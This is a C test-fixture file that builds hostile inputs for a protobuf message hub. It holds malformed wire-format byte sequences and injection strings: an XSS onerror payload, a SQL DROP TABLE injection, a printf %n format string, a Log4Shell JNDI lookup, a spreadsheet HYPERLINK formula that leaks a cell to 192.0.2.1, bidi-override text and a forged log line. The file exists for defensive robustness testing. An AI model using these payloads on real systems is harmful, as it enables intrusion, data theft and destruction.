// SPDX-License-Identifier: Apache-2.0
// The tables of hostile values, one after the other. Most are good items with one thing spoilt; some are nothing but
// bytes, and some are items that are as they should be, with texts that are meant for somebody else's parser.
#include "tests/kit/core/hostile_maker.h"
#include "hub/contract/outcome.h"
#include <stdlib.h>

#define COUNT(list) (sizeof(list) / sizeof *(list))
#define MIB         (1u << 20)
#define VALUE_BYTES 262144u

// Bytes that come once, or again and again up to a size.
static const struct {
    const char *name, *bytes;
    size_t len, size;
    enum outcome outcome;
    const char *path;
} raws[] = {
    {"nothing", "", 0, 0, OUTCOME_EMPTY, ""},
    {"1 MiB of empty parts", "\x12\x00", 2, MIB, OUTCOME_TOO_LARGE, ""},
    {"one byte more than allowed", "\x12", 1, VALUE_BYTES + 1, OUTCOME_TOO_LARGE, ""},
    {"256 KiB of empty parts", "\x12\x00", 2, VALUE_BYTES, OUTCOME_FIELD_MISSING, "parts[0].salt"},
    {"256 KiB of empty proofs", "\x1a\x00", 2, VALUE_BYTES, OUTCOME_FIELD_MISSING, "proof.key_id"},
    {"the header many times", "\x0a\x01h", 3, VALUE_BYTES, OUTCOME_DUPLICATE_FIELD, "header"},
    {"groups in each other", "\x0b", 1, VALUE_BYTES, OUTCOME_WIRE_BROKEN, "header"},
    {"ends of groups", "\x0c", 1, VALUE_BYTES, OUTCOME_WIRE_BROKEN, "header"},
    {"a number without end", "\xff", 1, VALUE_BYTES, OUTCOME_WIRE_BROKEN, ""},
    {"zeros", "\0", 1, VALUE_BYTES, OUTCOME_WIRE_BROKEN, ""},
    {"fields that nobody knows", "\x28\x01", 2, VALUE_BYTES, OUTCOME_UNKNOWN_FIELD, "5"},
    {"the highest field number", "\xf8\xff\xff\xff\x0f\x01", 6, 0, OUTCOME_UNKNOWN_FIELD, "536870911"},
    {"a field number beyond the highest", "\x88\x80\x80\x80\x10\x01", 6, 0, OUTCOME_WIRE_BROKEN, ""},
    {"a length of 2^64 - 1", "\x0a\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01", 11, 0, OUTCOME_WIRE_BROKEN, "header"},
    {"a length one too long",
        "\x0a\x04"
        "abc",
        5, 0, OUTCOME_WIRE_BROKEN, "header"},
    {"a length in more bytes than it needs", "\x0a\x81\x00x", 4, 0, OUTCOME_WIRE_VARINT, "header"},
    {"the header as a fixed number",
        "\x09"
        "12345678",
        9, 0, OUTCOME_WIRE_BROKEN, "header"},
    {"JSON", "{\"header\":{\"agency\":\"kent\"}}", 29, 0, OUTCOME_WIRE_BROKEN, "15"},
    {"HTML", "<!DOCTYPE html><script>alert(1)</script>", 40, 0, OUTCOME_WIRE_BROKEN, "7"},
    {"a schema registry's magic byte", "\x00\x00\x00\x00\x01\x0a\x01h", 8, 0, OUTCOME_WIRE_BROKEN, ""},
    {"gzip", "\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", 10, 0, OUTCOME_WIRE_BROKEN, "proof"},
};

// Texts that are somebody else's code: content is opaque to the hub, and what shows it must make it harmless.
static const struct {
    const char *name, *text;
} texts[] = {
    {"HTML in a text", "<img src=x onerror=alert(document.domain)>"},
    {"SQL in a text", "'; DROP TABLE feeds; --"},
    {"JSON in a text", "\",\"classification\":\"CLASSIFICATION_OFFICIAL\",\"x\":\""},
    {"a format in a text", "%s%s%s%n%n%1000000d"},
    {"a look-up in a text", "${jndi:ldap://192.0.2.1/a}"},
    {"a spreadsheet's formula in a text", "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"see\")"},
    {"text that runs backwards", "seen in \xe2\x80\xae"
                                 "tnek\xe2\x80\xac and \xe2\x81\xa6Margate\xe2\x81\xa9"},
    {"a forged line of a log", "seen\r\nlevel=error event=SPILL agency=nca\x1b[2J\x1b]0;title\x07"},
    {"invisible characters", "\xef\xbb\xbfk\xe2\x80\x8b"
                             "ent\xc2\xad\xf3\xa0\x81\xa5\xef\xbf\xbf"},
};

static const struct {
    const struct hostile_row *rows;
    const size_t *n;
} tables[] = {
    {hostile_envelopes, &hostile_n_envelopes},
    {hostile_proofs, &hostile_n_proofs},
    {hostile_headers, &hostile_n_headers},
    {hostile_spills, &hostile_n_spills},
    {hostile_costs, &hostile_n_costs},
};

struct record *hostile_send(struct hostile_maker *maker, struct slice value)
{
    maker->made->record = kit_record(maker->arena, maker->item, value, maker->lanes);
    return &maker->made->record;
}

struct record *hostile_send_item(struct hostile_maker *maker)
{
    return hostile_send(maker, kit_envelope(maker->arena, maker->item));
}

void hostile_before(struct hostile_maker *maker, struct slice value)
{
    maker->made->before = kit_record(maker->arena, maker->item, value, maker->lanes);
}

Signalbox__V1__Envelope *hostile_open(struct hostile_maker *maker, struct slice value)
{
    Signalbox__V1__Envelope *envelope =
        signalbox__v1__envelope__unpack(arena_allocator(maker->arena), value.len, value.data);
    if (!envelope)
        abort();
    return envelope;
}

void hostile_close(struct hostile_maker *maker, const Signalbox__V1__Envelope *envelope)
{
    size_t size = signalbox__v1__envelope__get_packed_size(envelope);
    uint8_t *bytes = arena_alloc(maker->arena, size);
    if (!bytes)
        abort();
    hostile_send(maker, slice_of(bytes, signalbox__v1__envelope__pack(envelope, bytes)));
}

static void make_raw(struct hostile_maker *maker, size_t i)
{
    size_t len = raws[i].len, size = raws[i].size ? raws[i].size : len;
    uint8_t *bytes = arena_alloc(maker->arena, size);
    if (!bytes)
        abort();
    for (size_t at = 0; at + len <= size && len; at += len)
        memcpy(bytes + at, raws[i].bytes, len);
    hostile_send(maker, slice_of(bytes, size));
    *maker->made = (struct hostile){
        .name = raws[i].name, .record = maker->made->record, .outcome = raws[i].outcome, .path = raws[i].path};
}

static void make_text(struct hostile_maker *maker, size_t i)
{
    Signalbox__V1__ReportBody *body = kit_report_body(maker->item, 0);
    kit_set_text(maker->arena, &body->title, texts[i].text);
    kit_set_text(maker->arena, &body->statements[0]->text, texts[i].text);
    kit_set_text(maker->arena, &maker->item->routing->place, texts[i].text);
    hostile_send_item(maker);
    *maker->made =
        (struct hostile){.name = texts[i].name, .record = maker->made->record, .outcome = OUTCOME_ACCEPTED, .path = ""};
}

static void make_row(struct hostile_maker *maker, const struct hostile_row *row)
{
    maker->made->name = row->name;
    maker->made->outcome = row->outcome;
    maker->made->path = row->path;
    maker->made->spilt = row->spilt;
    row->make(maker);
}

size_t hostile_count(void)
{
    size_t n = COUNT(raws) + COUNT(texts);
    for (size_t i = 0; i < COUNT(tables); i++)
        n += *tables[i].n;
    return n;
}

void hostile_make(struct arena *arena, size_t i, uint32_t lanes, struct hostile *made)
{
    struct hostile_maker maker = {.arena = arena, .seed = 1000 + i, .lanes = lanes, .made = made};
    maker.item = kit_report(arena, "kent", maker.seed);
    *made = (struct hostile){.name = NULL};
    if (i < COUNT(raws)) {
        make_raw(&maker, i);
        return;
    }
    i -= COUNT(raws);
    if (i < COUNT(texts)) {
        make_text(&maker, i);
        return;
    }
    i -= COUNT(texts);
    for (size_t table = 0; table < COUNT(tables); i -= *tables[table++].n)
        if (i < *tables[table].n) {
            make_row(&maker, &tables[table].rows[i]);
            return;
        }
    abort();
}
